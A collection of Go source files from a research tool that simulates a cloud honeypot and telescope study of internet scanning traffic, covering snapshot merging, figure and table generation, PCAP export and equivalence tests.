				for e, sink := range sinks {
					run.hi[e] = int32(sink.blk.Len())
				}
				// es.runs writes are disjoint across workers: each actor
				// ran on exactly one worker.
				es.runs[i] = run
			}
		}()
	}
	wg.Wait()
	for _, sinks := range es.sinks {
		for _, sink := range sinks {
			sink.tel.Flush()
		}
	}
}

// NumEpochs returns the number of epochs the week is partitioned into.
func (es *EpochSet) NumEpochs() int { return es.eb.NumEpochs() }

// NumRecords returns the total honeypot record count across every
// epoch sink — the record volume a full-prefix snapshot materializes.
func (es *EpochSet) NumRecords() int {
	n := 0
	for _, sinks := range es.sinks {
		for _, sink := range sinks {
			n += sink.blk.Len()
		}
	}
	return n
}

// Config returns the (year-defaulted) study configuration the epochs
// were generated from.
func (es *EpochSet) Config() Config { return es.cfg }

// Window returns the wall-clock span of epoch e.
func (es *EpochSet) Window(e int) (start, end time.Time) { return es.eb.Window(e) }

// Bound returns the starting study-second of epoch e (Bound(NumEpochs())
// is the end of the week) — the WindowSec a truncated batch Run needs
// to reproduce the first e epochs.
func (es *EpochSet) Bound(e int) int32 { return es.eb.Bound(e) }

// EpochRecords returns the number of honeypot records generated inside
// epoch e across all workers.
func (es *EpochSet) EpochRecords(e int) int {
	n := 0
	for _, sinks := range es.sinks {
		n += sinks[e].blk.Len()
	}
	return n
}

// EpochTelescopePackets returns the telescope packets of epoch e.
func (es *EpochSet) EpochTelescopePackets(e int) int {
	n := 0
	for _, sinks := range es.sinks {
		n += sinks[e].tel.Packets()
	}
	return n
}

// Snapshot assembles the immutable study of the first `prefix` epochs
// (1 ≤ prefix ≤ NumEpochs()): record columns k-way merged per actor in
// emission order, telescope and GreyNoise shards union-merged, and
// every derived column (verdicts anchored at first occurrence in the
// merged canonical order, per-payload facts, per-vantage lists)
// finalized — so the snapshot renders every table, figure, and
// ablation exactly like a batch Run truncated at Bound(prefix) (the
// full-week Run when prefix == NumEpochs()). Each snapshot owns its
// collectors and caches; building one never mutates the EpochSet, so
// snapshots may be assembled concurrently.
func (es *EpochSet) Snapshot(prefix int) (*Study, error) {
	if prefix < 1 || prefix > es.eb.NumEpochs() {
		return nil, fmt.Errorf("core: snapshot prefix %d out of range [1, %d]", prefix, es.eb.NumEpochs())
	}
	sp := obs.StartStage(obs.StageSnapshotRebuild)
	defer sp.End()
	cfg := es.cfg
	if prefix < es.eb.NumEpochs() {
		cfg.WindowSec = es.eb.Bound(prefix)
	}
	s := &Study{
		Cfg:    cfg,
		U:      es.u,
		Tel:    telescope.New(cfg.TelescopeWatch...),
		GN:     greynoise.NewService(),
		Censys: es.censys,
		Shodan: es.shodan,
		Actors: es.actors,
		IDS:    ids.DefaultEngine(),
	}
	for _, actor := range es.actors {
		if actor.Benign {
			s.GN.VetASN(actor.AS.ASN)
		}
	}

	// Union-merge the collector shards of every ingested epoch and lay
	// out the snapshot's credential arena (per-sink index rebasing, as
	// the batch merge does per shard).
	total, credTotal := 0, 0
	credBase := make(map[*epochSink]int32)
	for _, sinks := range es.sinks {
		for e := 0; e < prefix; e++ {
			sink := sinks[e]
			s.Tel.Merge(sink.tel)
			s.GN.MergeDelta(sink.gn)
			credBase[sink] = int32(credTotal)
			credTotal += len(sink.blk.CredLists)
			total += sink.blk.Len()
		}
	}
	s.blk.Grow(total)
	s.blk.CredLists = make([][]netsim.Credential, 0, credTotal)
	for _, sinks := range es.sinks {
		for e := 0; e < prefix; e++ {
			s.blk.CredLists = append(s.blk.CredLists, sinks[e].blk.CredLists...)
		}
	}

	// Reassemble the record columns in canonical order: actors in
	// population order, and within an actor its ingested-epoch runs
	// k-way merged by emission index — exactly the subsequence a
	// truncated batch dispatch would have appended.
	type cursor struct {
		sink    *epochSink
		idx, hi int32
	}
	var cur []cursor
	for i := range es.runs {
		run := &es.runs[i]
		cur = cur[:0]
		for e := 0; e < prefix; e++ {
			if run.hi[e] > run.lo[e] {
				cur = append(cur, cursor{run.sinks[e], run.lo[e], run.hi[e]})
			}
		}
		if len(cur) == 1 {
			c := cur[0]
			s.blk.AppendRange(&c.sink.blk, int(c.idx), int(c.hi), credBase[c.sink])
			continue
		}
		for len(cur) > 0 {
			best := 0
			for k := 1; k < len(cur); k++ {
				if cur[k].sink.seq[cur[k].idx] < cur[best].sink.seq[cur[best].idx] {
					best = k
				}
			}
			// Extend the winning run while it stays below every other
			// cursor's next emission index, then append it as one range.
			minOther := int32(math.MaxInt32)
			for k := range cur {
				if k != best {
					if sq := cur[k].sink.seq[cur[k].idx]; sq < minOther {
						minOther = sq
					}
				}
			}
			c := &cur[best]
			lo := c.idx
			for c.idx < c.hi && c.sink.seq[c.idx] < minOther {
				c.idx++
			}
			s.blk.AppendRange(&c.sink.blk, int(lo), int(c.idx), credBase[c.sink])
			if c.idx == c.hi {
				cur = append(cur[:best], cur[best+1:]...)
			}
		}
	}

	s.buildVerdicts()
	s.buildDerived(netsim.PayloadCount())
	return s, nil
}
