package core

import (
	"fmt"
	"math"
	"strings"

	"cloudwatch/internal/telescope"
)

// Figure1Panel is one panel of Figure 1: the per-address unique-
// scanner series of one port across the telescope space, smoothed over
// 512-address windows, plus the summary statistics that encode the
// panel's finding.
type Figure1Panel struct {
	Port    uint16
	Windows []float64 // rolling 512-address window averages

	// Structure statistics.
	Slash16StartBoost float64 // mean unique scanners on x.x.0.0 ÷ overall mean (panel a)
	Octet255Ratio     float64 // mean on 255-octet addresses ÷ mean on others (panels b, c)
	TopAddresses      []string
	TopCounts         []int
}

// Figure1Result holds all four panels.
type Figure1Result struct {
	Panels []Figure1Panel
}

// Figure1Window is the smoothing window of the figure ("a rolling
// average of the # of scanning IPs across every consecutive 512 IPs").
const Figure1Window = 512

// Figure1 regenerates Figure 1's per-address scanner-count series for
// the watched ports (22, 445, 80, 17128).
func (s *Study) Figure1() Figure1Result {
	var res Figure1Result
	for _, port := range []uint16{22, 445, 80, 17128} {
		series := s.telescopeSeries(port)
		panel := Figure1Panel{Port: port}
		if series == nil {
			res.Panels = append(res.Panels, panel)
			continue
		}
		panel.Windows = telescope.RollingMedianWindow(series, Figure1Window)

		var sum, n float64
		var sum255, n255 float64
		var sumStart, nStart float64
		type top struct {
			idx   int
			count int
		}
		var tops []top
		for i, count := range series {
			addr := s.U.TelescopeAddr(i)
			sum += float64(count)
			n++
			if addr.HasOctet(255) {
				sum255 += float64(count)
				n255++
			}
			if addr.IsSlash16Start() {
				sumStart += float64(count)
				nStart++
			}
			tops = append(tops, top{i, count})
			if len(tops) > 1 {
				for k := len(tops) - 1; k > 0 && tops[k].count > tops[k-1].count; k-- {
					tops[k], tops[k-1] = tops[k-1], tops[k]
				}
			}
			if len(tops) > 4 {
				tops = tops[:4]
			}
		}
		overall := sum / math.Max(n, 1)
		other := (sum - sum255) / math.Max(n-n255, 1)
		if nStart > 0 && overall > 0 {
			panel.Slash16StartBoost = (sumStart / nStart) / overall
		}
		if n255 > 0 && other > 0 {
			panel.Octet255Ratio = (sum255 / n255) / other
		}
		for _, tp := range tops {
			if tp.count == 0 {
				continue
			}
			panel.TopAddresses = append(panel.TopAddresses, s.U.TelescopeAddr(tp.idx).String())
			panel.TopCounts = append(panel.TopCounts, tp.count)
		}
		res.Panels = append(res.Panels, panel)
	}
	return res
}

// Render formats the four panels with ASCII sparklines.
func (r Figure1Result) Render() string {
	var b strings.Builder
	b.WriteString("Figure 1: address-structure preferences in the telescope (rolling 512-IP windows)\n")
	for _, p := range r.Panels {
		fmt.Fprintf(&b, "\n(port %d) ", p.Port)
		switch p.Port {
		case 22:
			fmt.Fprintf(&b, "/16-start boost: %.1fx (scanners prefer x.B.0.0)\n", p.Slash16StartBoost)
		case 445, 80:
			fmt.Fprintf(&b, "255-octet density ratio: %.2f (scanners avoid 255 octets)\n", p.Octet255Ratio)
		case 17128:
			fmt.Fprintf(&b, "single-target latch — top addresses:\n")
			for i := range p.TopAddresses {
				fmt.Fprintf(&b, "  %s: %d unique scanners\n", p.TopAddresses[i], p.TopCounts[i])
			}
		}
		b.WriteString(sparkline(p.Windows))
		b.WriteByte('\n')
	}
	return b.String()
}

// sparkline renders a window series as a compact ASCII plot.
func sparkline(values []float64) string {
	if len(values) == 0 {
		return "(no data)"
	}
	const levels = " .:-=+*#%@"
	maxV := 0.0
	for _, v := range values {
		if v > maxV {
			maxV = v
		}
	}
	if maxV == 0 {
		return "(all zero)"
	}
	// Downsample to at most 120 columns.
	cols := len(values)
	if cols > 120 {
		cols = 120
	}
	var b strings.Builder
	for c := 0; c < cols; c++ {
		lo := c * len(values) / cols
		hi := (c + 1) * len(values) / cols
		if hi <= lo {
			hi = lo + 1
		}
		sum := 0.0
		for i := lo; i < hi; i++ {
			sum += values[i]
		}
		v := sum / float64(hi-lo)
		idx := int(v / maxV * float64(len(levels)-1))
		b.WriteByte(levels[idx])
	}
	return b.String()
}
