package core

import (
	"fmt"
	"io"
	"sort"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/pcap"
	"cloudwatch/internal/wire"
)

// ExportPCAP writes the study's honeypot records as a standard pcap
// capture — the dataset-release path ("we release our dataset of
// scanning traffic targeting the cloud"). Each record becomes one
// synthetic TCP/UDP packet carrying the captured first payload;
// credential-only records (interactive ports) encode the attempts as
// the cleartext the wire would have carried. Records are written in
// timestamp order.
func (s *Study) ExportPCAP(w io.Writer) (int, error) {
	idx := make([]int, len(s.Records))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool {
		return s.Records[idx[a]].T.Before(s.Records[idx[b]].T)
	})

	pw := pcap.NewWriter(w)
	written := 0
	for _, i := range idx {
		rec := s.Records[i]
		t, ok := s.U.ByID(rec.Vantage)
		if !ok {
			return written, fmt.Errorf("core: record references unknown vantage %q", rec.Vantage)
		}
		payload := rec.Payload
		if payload == nil && len(rec.Creds) > 0 {
			payload = credWire(rec.Creds)
		}
		pkt := wire.Packet{
			Time:    rec.T,
			Src:     rec.Src,
			Dst:     t.IP,
			SrcPort: ephemeralPort(rec.Src, rec.Port),
			DstPort: rec.Port,
			Proto:   rec.Transport,
			Flags:   wire.FlagPSH | wire.FlagACK,
			Payload: payload,
		}
		if err := pw.WritePacket(pkt); err != nil {
			return written, fmt.Errorf("core: exporting record %d: %w", i, err)
		}
		written++
	}
	return written, pw.Flush()
}

// credWire renders credentials as the newline-separated cleartext of
// an interactive login exchange.
func credWire(creds []netsim.Credential) []byte {
	var out []byte
	for _, c := range creds {
		out = append(out, c.Username...)
		out = append(out, '\r', '\n')
		out = append(out, c.Password...)
		out = append(out, '\r', '\n')
	}
	return out
}

// ephemeralPort derives a stable synthetic client port from the source
// address so repeated exports are identical.
func ephemeralPort(src wire.Addr, dstPort uint16) uint16 {
	h := uint32(src)*2654435761 + uint32(dstPort)
	return uint16(32768 + (h % 28000))
}
