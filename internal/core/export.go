package core

import (
	"fmt"
	"io"
	"sort"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/pcap"
	"cloudwatch/internal/wire"
)

// ExportPCAP writes the study's honeypot records as a standard pcap
// capture — the dataset-release path ("we release our dataset of
// scanning traffic targeting the cloud"). Each record becomes one
// synthetic TCP/UDP packet carrying the captured first payload;
// credential-only records (interactive ports) encode the attempts as
// the cleartext the wire would have carried. Records are written in
// timestamp order.
func (s *Study) ExportPCAP(w io.Writer) (int, error) {
	idx := make([]int, s.blk.Len())
	for i := range idx {
		idx[i] = i
	}
	// (sec, nsec) compare is T.Before over the stored columns.
	sort.SliceStable(idx, func(a, b int) bool {
		ia, ib := idx[a], idx[b]
		if s.blk.Sec[ia] != s.blk.Sec[ib] {
			return s.blk.Sec[ia] < s.blk.Sec[ib]
		}
		return s.blk.Nsec[ia] < s.blk.Nsec[ib]
	})

	targets := s.U.Targets()
	pw := pcap.NewWriter(w)
	written := 0
	for _, i := range idx {
		payload := netsim.PayloadBytes(s.blk.Pay[i])
		if payload == nil {
			if creds := s.blk.CredsAt(i); len(creds) > 0 {
				payload = credWire(creds)
			}
		}
		src, port := s.blk.Src[i], s.blk.Port[i]
		pkt := wire.Packet{
			Time:    s.blk.Time(i),
			Src:     src,
			Dst:     targets[s.blk.Vantage[i]].IP,
			SrcPort: ephemeralPort(src, port),
			DstPort: port,
			Proto:   s.blk.Transport[i],
			Flags:   wire.FlagPSH | wire.FlagACK,
			Payload: payload,
		}
		if err := pw.WritePacket(pkt); err != nil {
			return written, fmt.Errorf("core: exporting record %d: %w", i, err)
		}
		written++
	}
	return written, pw.Flush()
}

// credWire renders credentials as the newline-separated cleartext of
// an interactive login exchange.
func credWire(creds []netsim.Credential) []byte {
	var out []byte
	for _, c := range creds {
		out = append(out, c.Username...)
		out = append(out, '\r', '\n')
		out = append(out, c.Password...)
		out = append(out, '\r', '\n')
	}
	return out
}

// ephemeralPort derives a stable synthetic client port from the source
// address so repeated exports are identical.
func ephemeralPort(src wire.Addr, dstPort uint16) uint16 {
	h := uint32(src)*2654435761 + uint32(dstPort)
	return uint16(32768 + (h % 28000))
}
