package core

import (
	"bytes"
	"fmt"
	"runtime"
	"testing"
	"time"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/searchengine"
)

// refRecord is one record produced by the reference pipeline: the
// pre-columnar row representation plus its §3.2 verdict.
type refRecord struct {
	rec netsim.Record
	mal bool
}

// refGenerate reproduces the pre-columnar serial pipeline
// independently of the production code: actors run one after another,
// each probe goes through the collector decision table reimplemented
// inline (no interner, fresh buffers), and the §3.2 verdict memo is
// payload-keyed with first-occurrence-wins semantics — exactly what
// the historical serial shard computed. The columnar pipeline at any
// worker count must deep-equal this.
func refGenerate(t *testing.T, cfg Config) []refRecord {
	t.Helper()
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	deployment, err := cloud.Build(cfg.Deploy)
	if err != nil {
		t.Fatal(err)
	}
	u, err := deployment.Universe(cfg.Seed, cfg.Year)
	if err != nil {
		t.Fatal(err)
	}
	censys := searchengine.New("censys")
	shodan := searchengine.New("shodan")
	crawlTime := netsim.StudyStart.Add(-24 * time.Hour)
	censys.Crawl(u, crawlTime)
	shodan.Crawl(u, crawlTime)

	engine := ids.DefaultEngine()
	memo := map[string]bool{}
	var out []refRecord

	dispatch := func(p *netsim.Probe) {
		if u.InTelescope(p.Dst) {
			return
		}
		tgt, ok := u.ByIP(p.Dst)
		if !ok || !tgt.ListensOn(p.Port) {
			return
		}
		payload := p.Payload
		if p.Pay != 0 {
			// Reference path sees raw bytes only: copy out of the
			// interner so nothing aliases production storage.
			payload = append([]byte(nil), netsim.PayloadBytes(p.Pay)...)
		}
		rec := netsim.Record{
			Vantage: tgt.ID, T: p.T, Src: p.Src, ASN: p.ASN,
			Port: p.Port, Transport: p.Transport, Handshake: true,
		}
		switch tgt.Collector {
		case netsim.CollectGreyNoise:
			if p.Port == 22 || p.Port == 2222 || p.Port == 23 || p.Port == 2323 {
				rec.Creds = p.Creds
			} else {
				rec.Payload = payload
			}
		case netsim.CollectHoneytrap:
			rec.Payload = payload
			if tgt.EmulateAuth {
				rec.Creds = p.Creds
			} else if (p.Port == 23 || p.Port == 2323) && len(p.Creds) > 0 && payload == nil {
				var b []byte
				for _, c := range p.Creds {
					b = append(b, c.Username...)
					b = append(b, '\r', '\n')
					b = append(b, c.Password...)
					b = append(b, '\r', '\n')
				}
				rec.Payload = b
			}
		default:
			return
		}
		mal := false
		switch {
		case len(rec.Creds) > 0:
			mal = true
		case len(rec.Payload) == 0:
			mal = false
		default:
			v, ok := memo[string(rec.Payload)]
			if !ok {
				v = engine.Malicious(rec.Transport.String(), rec.Port, rec.Payload)
				memo[string(rec.Payload)] = v
			}
			mal = v
		}
		out = append(out, refRecord{rec, mal})
	}

	ctx := &scanners.Context{U: u, Censys: censys, Shodan: shodan, Seed: cfg.Seed, Year: cfg.Year}
	for _, actor := range scanners.Population(cfg.Actors) {
		actor.Run(ctx, dispatch)
	}
	return out
}

// TestGenerationEquivalence deep-equals the columnar pipeline against
// the independent reference generator: the full record sequence and
// every derived column, across seeds 42/7 × years 2020–2022 × Workers
// 1/4/GOMAXPROCS.
func TestGenerationEquivalence(t *testing.T) {
	workerCounts := []int{1, 4, runtime.GOMAXPROCS(0)}
	for _, seed := range []int64{42, 7} {
		for _, year := range []int{2020, 2021, 2022} {
			cfg := testConfig(seed, year)
			ref := refGenerate(t, cfg)
			if len(ref) == 0 {
				t.Fatalf("seed %d year %d: reference generated no records", seed, year)
			}
			for _, workers := range workerCounts {
				cfg := cfg
				cfg.Workers = workers
				s, err := Run(cfg)
				if err != nil {
					t.Fatal(err)
				}
				label := fmt.Sprintf("seed=%d year=%d workers=%d", seed, year, workers)
				if s.NumRecords() != len(ref) {
					t.Fatalf("%s: %d records, reference has %d", label, s.NumRecords(), len(ref))
				}
				for i, want := range ref {
					got := s.RecordAt(i)
					if got.Vantage != want.rec.Vantage || !got.T.Equal(want.rec.T) ||
						got.Src != want.rec.Src || got.ASN != want.rec.ASN ||
						got.Port != want.rec.Port || got.Transport != want.rec.Transport ||
						got.Handshake != want.rec.Handshake {
						t.Fatalf("%s: record %d scalar fields differ:\n got %+v\nwant %+v", label, i, got, want.rec)
					}
					if !bytes.Equal(got.Payload, want.rec.Payload) {
						t.Fatalf("%s: record %d payload differs", label, i)
					}
					if len(got.Creds) != len(want.rec.Creds) {
						t.Fatalf("%s: record %d cred count differs", label, i)
					}
					for c := range got.Creds {
						if got.Creds[c] != want.rec.Creds[c] {
							t.Fatalf("%s: record %d cred %d differs", label, i, c)
						}
					}
					// Derived columns, all materialized by Run itself.
					if s.mal[i] != want.mal {
						t.Fatalf("%s: record %d mal column = %v, want %v", label, i, s.mal[i], want.mal)
					}
					if got, wantH := s.blk.Hour(i), netsim.HourOf(want.rec.T); got != wantH {
						t.Fatalf("%s: record %d hour = %d, want %d", label, i, got, wantH)
					}
					if len(want.rec.Payload) > 0 {
						if got, wantK := s.recPayKey(i), payloadKey(want.rec.Payload); got != wantK {
							t.Fatalf("%s: record %d payKey = %q, want %q", label, i, got, wantK)
						}
						if got, wantP := s.recProto(i), fingerprint.Identify(want.rec.Payload); got != wantP {
							t.Fatalf("%s: record %d proto = %v, want %v", label, i, got, wantP)
						}
					} else if s.recPayKey(i) != "" || s.recProto(i) != fingerprint.Unknown {
						t.Fatalf("%s: record %d payloadless but payKey=%q proto=%v",
							label, i, s.recPayKey(i), s.recProto(i))
					}
				}
			}
		}
	}
}

// TestRecordPayloadsNeverAliasEmitterBuffers proves the aliasing
// contract of the columnar store: a record's payload bytes are
// interner-owned — mutating the emitter's buffer after the probe is
// collected must not change the record.
func TestRecordPayloadsNeverAliasEmitterBuffers(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	var tgt *netsim.Target
	for _, c := range s.U.Targets() {
		if c.Collector == netsim.CollectHoneytrap && c.ListensOn(80) {
			tgt = c
			break
		}
	}
	if tgt == nil {
		t.Fatal("no honeytrap target listening on 80")
	}
	buf := []byte("GET /mutable-buffer-aliasing-test HTTP/1.1\r\nHost: x\r\n\r\n")
	want := append([]byte(nil), buf...)
	p := netsim.Probe{
		T: netsim.StudyStart, Src: 0x05050505, ASN: 4134,
		Dst: tgt.IP, Port: 80, Transport: 6, Payload: buf,
	}
	got, ok := honeypot.Observe(tgt, p)
	if !ok {
		t.Fatal("collector rejected the probe")
	}
	for i := range buf {
		buf[i] = 'X' // scribble over the emitter's buffer
	}
	if !bytes.Equal(got.Payload, want) {
		t.Fatalf("record payload changed when the emitter buffer was mutated:\n got %q\nwant %q", got.Payload, want)
	}
	if len(got.Payload) > 0 && &got.Payload[0] == &buf[0] {
		t.Fatal("record payload aliases the emitter's buffer")
	}
	// Dictionary-registered payloads: records alias the interner's
	// private copy, not the scanners' dictionary slices.
	corp := scanners.BenignHTTP()
	id := netsim.InternPayload(corp[0])
	interned := netsim.PayloadBytes(id)
	if !bytes.Equal(interned, corp[0]) {
		t.Fatal("interned bytes differ from the registered dictionary entry")
	}
	if &interned[0] == &corp[0][0] {
		t.Fatal("interner aliases the scanners' dictionary buffer")
	}
}

// TestGeoFamilySharedBetweenTables4And5 checks the cross-family dedup:
// after Table 5 runs, every comparison family Table 4 needs is already
// memoized — running Table 4 adds no cache entries.
func TestGeoFamilySharedBetweenTables4And5(t *testing.T) {
	s := runTestStudy(t, 42, 2021)
	_ = s.Table5()
	s.famMu.Lock()
	before := len(s.famCache)
	s.famMu.Unlock()
	_ = s.Table4()
	s.famMu.Lock()
	after := len(s.famCache)
	s.famMu.Unlock()
	if after != before {
		t.Fatalf("Table4 built %d new families after Table5 (cache %d → %d); expected full reuse",
			after-before, before, after)
	}
}
