package core

import "cloudwatch/internal/obs"

// The experiment registry: one name per table and figure of the
// paper's evaluation, in the paper's order. cmd/cloudwatch and the
// streaming study server both resolve experiment names through it, so
// "valid experiment" means the same thing everywhere.

// experimentOrder lists every renderable experiment in render order.
var experimentOrder = []string{
	"table1", "table2", "table3", "table4", "table5", "table6",
	"table7", "table8", "table9", "table10", "table11", "figure1",
}

// ExperimentNames returns the renderable experiment names in the
// paper's order. The slice is fresh; callers may keep or modify it.
func ExperimentNames() []string {
	return append([]string(nil), experimentOrder...)
}

// AppendixExperiments returns the table subset the "appendix" selection
// renders (Tables 12–17 are the 2020/2022 variants of these).
func AppendixExperiments() []string {
	return []string{"table2", "table5", "table7", "table10", "table4", "table11"}
}

// KnownExperiment reports whether name is a renderable experiment —
// the validity check servers run before doing any per-request work, so
// an unknown name fails the same way whatever else the request got
// wrong.
func KnownExperiment(name string) bool {
	for _, n := range experimentOrder {
		if n == name {
			return true
		}
	}
	return false
}

// RenderExperiment renders one named experiment of a study, reporting
// ok=false for unknown names. Every successful render is traced as one
// table_render stage span; unknown names record nothing.
func RenderExperiment(s *Study, name string) (string, bool) {
	sp := obs.StartStage(obs.StageTableRender)
	out, ok := renderExperiment(s, name)
	if ok {
		sp.End()
	}
	return out, ok
}

func renderExperiment(s *Study, name string) (string, bool) {
	switch name {
	case "table1":
		return s.Table1().Render(), true
	case "table2":
		return s.Table2().Render(), true
	case "table3":
		return s.Table3().Render(), true
	case "table4":
		return s.Table4().Render(), true
	case "table5":
		return s.Table5().Render(), true
	case "table6":
		return s.Table6().Render(), true
	case "table7":
		return s.Table7().Render(), true
	case "table8":
		return s.Table8().Render(), true
	case "table9":
		return s.Table9().Render(), true
	case "table10":
		return s.Table10().Render(), true
	case "table11":
		return s.Table11().Render(), true
	case "figure1":
		return s.Figure1().Render(), true
	}
	return "", false
}

// SweepTables lists the experiments the K-sweep engine can drive —
// the §3.3 comparison tables whose families take a top-K width.
func SweepTables() []string {
	return []string{"table2", "table4", "table5", "table7", "table10"}
}

// RenderExperimentAtK renders one sweepable table at an explicit top-K
// width, reporting ok=false for names outside SweepTables. K == TopK
// reuses the exact memo entries the plain tables populate. Successful
// renders trace as table_render spans, like RenderExperiment.
func RenderExperimentAtK(s *Study, name string, k int) (string, bool) {
	sp := obs.StartStage(obs.StageTableRender)
	out, ok := renderExperimentAtK(s, name, k)
	if ok {
		sp.End()
	}
	return out, ok
}

func renderExperimentAtK(s *Study, name string, k int) (string, bool) {
	switch name {
	case "table2":
		return s.Table2AtK(k).Render(), true
	case "table4":
		return s.Table4AtK(k).Render(), true
	case "table5":
		return s.Table5AtK(k).Render(), true
	case "table7":
		return s.Table7AtK(k).Render(), true
	case "table10":
		return s.Table10AtK(k).Render(), true
	}
	return "", false
}
