package core

import (
	"fmt"
	"strings"

	"cloudwatch/internal/netsim"
	"cloudwatch/internal/stats"
)

// Table3Row is one (service, traffic-kind, leak-group) fold-increase
// measurement of Table 3.
type Table3Row struct {
	Service   string  // "HTTP/80", "SSH/22", "Telnet/23"
	Traffic   string  // "All" or "Malicious"
	Group     string  // "censys", "shodan", "prevleaked"
	Fold      float64 // mean traffic/hour leaked ÷ control
	MWUSig    bool    // one-sided Mann-Whitney: leaked > control (bold)
	KSSig     bool    // KS: distributions differ (the table's star)
	LeakedIPs int
}

// Table3Result reproduces Table 3: the impact of Internet-service
// search engines on attack traffic.
type Table3Result struct {
	Rows []Table3Row
	// UniquePasswordFold is the §4.3 side-finding: unique SSH
	// passwords attempted on leaked vs control services ("attackers
	// will attempt on average 3 times more unique SSH passwords").
	UniquePasswordFold float64
}

var leakServices = []struct {
	name  string
	slice ProtocolSlice
	port  uint16
}{
	{"HTTP/80", SliceHTTP80, 80},
	{"SSH/22", SliceSSH22, 22},
	{"Telnet/23", SliceTelnet23, 23},
}

// Table3 measures fold increases of traffic per hour toward leaked
// services relative to the control group, with Mann-Whitney
// significance (bold) and KS distribution difference (star).
func (s *Study) Table3() Table3Result {
	var res Table3Result
	control := s.leakGroupTargets(func(t *netsim.Target) bool {
		return t.Region == "stanford:leak:control"
	})
	for _, svc := range leakServices {
		controlAll, controlMal := s.groupHourly(control, svc.slice)
		groups := []struct {
			label string
			pick  func(*netsim.Target) bool
		}{
			{"censys", func(t *netsim.Target) bool {
				return t.Region == "stanford:leak:leaked" && t.LeakEngine == "censys" && t.LeakPort == svc.port
			}},
			{"shodan", func(t *netsim.Target) bool {
				return t.Region == "stanford:leak:leaked" && t.LeakEngine == "shodan" && t.LeakPort == svc.port
			}},
			{"prevleaked", func(t *netsim.Target) bool {
				return t.Region == "stanford:leak:prevleaked"
			}},
		}
		for _, g := range groups {
			targets := s.leakGroupTargets(g.pick)
			leakedAll, leakedMal := s.groupHourly(targets, svc.slice)
			for _, traffic := range []struct {
				kind             string
				leaked, baseline []float64
			}{
				{"All", leakedAll, controlAll},
				{"Malicious", leakedMal, controlMal},
			} {
				row := Table3Row{
					Service: svc.name, Traffic: traffic.kind, Group: g.label,
					Fold:      stats.FoldIncrease(traffic.leaked, traffic.baseline),
					LeakedIPs: len(targets),
				}
				if mwu, err := stats.MannWhitneyU(traffic.leaked, traffic.baseline, stats.AlternativeGreater); err == nil {
					row.MWUSig = mwu.P < Alpha
				}
				if ks, err := stats.KolmogorovSmirnov(traffic.leaked, traffic.baseline); err == nil {
					row.KSSig = ks.P < Alpha
				}
				res.Rows = append(res.Rows, row)
			}
		}
	}
	res.UniquePasswordFold = s.leakPasswordFold()
	return res
}

// leakGroupTargets returns leak-experiment targets matching pick.
func (s *Study) leakGroupTargets(pick func(*netsim.Target) bool) []*netsim.Target {
	var out []*netsim.Target
	for _, t := range s.U.Targets() {
		if strings.HasPrefix(t.Region, "stanford:leak") && pick(t) {
			out = append(out, t)
		}
	}
	return out
}

// groupHourly returns the per-IP average hourly volume series (all,
// malicious) of a target group restricted to a slice.
func (s *Study) groupHourly(targets []*netsim.Target, slice ProtocolSlice) (all, mal []float64) {
	all = make([]float64, netsim.StudyHours)
	mal = make([]float64, netsim.StudyHours)
	if len(targets) == 0 {
		return all, mal
	}
	for _, t := range targets {
		v := s.VantageView(t.ID, slice)
		for h := range v.Hourly {
			all[h] += v.Hourly[h]
			mal[h] += v.MalHourly[h]
		}
	}
	n := float64(len(targets))
	for h := range all {
		all[h] /= n
		mal[h] /= n
	}
	return all, mal
}

// leakPasswordFold computes unique SSH passwords per leaked IP ÷ per
// control IP.
func (s *Study) leakPasswordFold() float64 {
	uniquePw := func(targets []*netsim.Target) float64 {
		if len(targets) == 0 {
			return 0
		}
		total := 0.0
		for _, t := range targets {
			v := s.VantageView(t.ID, SliceSSH22)
			total += float64(len(v.Passwords))
		}
		return total / float64(len(targets))
	}
	leaked := s.leakGroupTargets(func(t *netsim.Target) bool {
		return t.Region == "stanford:leak:leaked" && t.LeakPort == 22
	})
	control := s.leakGroupTargets(func(t *netsim.Target) bool {
		return t.Region == "stanford:leak:control"
	})
	c := uniquePw(control)
	if c == 0 {
		return 0
	}
	return uniquePw(leaked) / c
}

// Render formats the result as Table 3's layout.
func (r Table3Result) Render() string {
	t := newTable("Table 3: impact of Internet-service search engines (fold increase in traffic/hour vs control; ** = MWU significant, * = KS significant)",
		"Service", "Traffic", "Censys Leaked", "Shodan Leaked", "Previously Leaked")
	type key struct{ svc, traffic string }
	cells := map[key]map[string]Table3Row{}
	for _, row := range r.Rows {
		k := key{row.Service, row.Traffic}
		if cells[k] == nil {
			cells[k] = map[string]Table3Row{}
		}
		cells[k][row.Group] = row
	}
	for _, svc := range leakServices {
		for _, traffic := range []string{"All", "Malicious"} {
			k := key{svc.name, traffic}
			row := []string{svc.name, traffic}
			for _, g := range []string{"censys", "shodan", "prevleaked"} {
				if c, ok := cells[k][g]; ok {
					row = append(row, fmtFold(c.Fold, c.MWUSig, c.KSSig))
				} else {
					row = append(row, "-")
				}
			}
			t.add(row...)
		}
	}
	out := t.String()
	out += fmt.Sprintf("Unique SSH passwords on leaked vs control: %.1fx\n", r.UniquePasswordFold)
	return out
}
