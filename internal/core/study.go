// Package core is the paper's primary contribution in code: the
// measurement study driver (deploy vantage points, generate attacker
// traffic, collect records) and the §3.3 statistical comparison
// methodology, plus one experiment driver per table and figure of the
// evaluation (experiments*.go).
package core

import (
	"fmt"
	"sync"
	"time"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/searchengine"
	"cloudwatch/internal/telescope"
)

// Config assembles a full study: deployment, actor population, and
// telescope watch ports.
type Config struct {
	Seed   int64
	Year   int
	Deploy cloud.Config
	Actors scanners.Config
	// TelescopeWatch lists ports with per-destination telescope
	// tracking (Figure 1). Defaults to 22, 80, 445, 7574, 17128.
	TelescopeWatch []uint16
	// Workers is the number of pipeline workers the actor population
	// is sharded across. 0 (the default) means runtime.GOMAXPROCS(0).
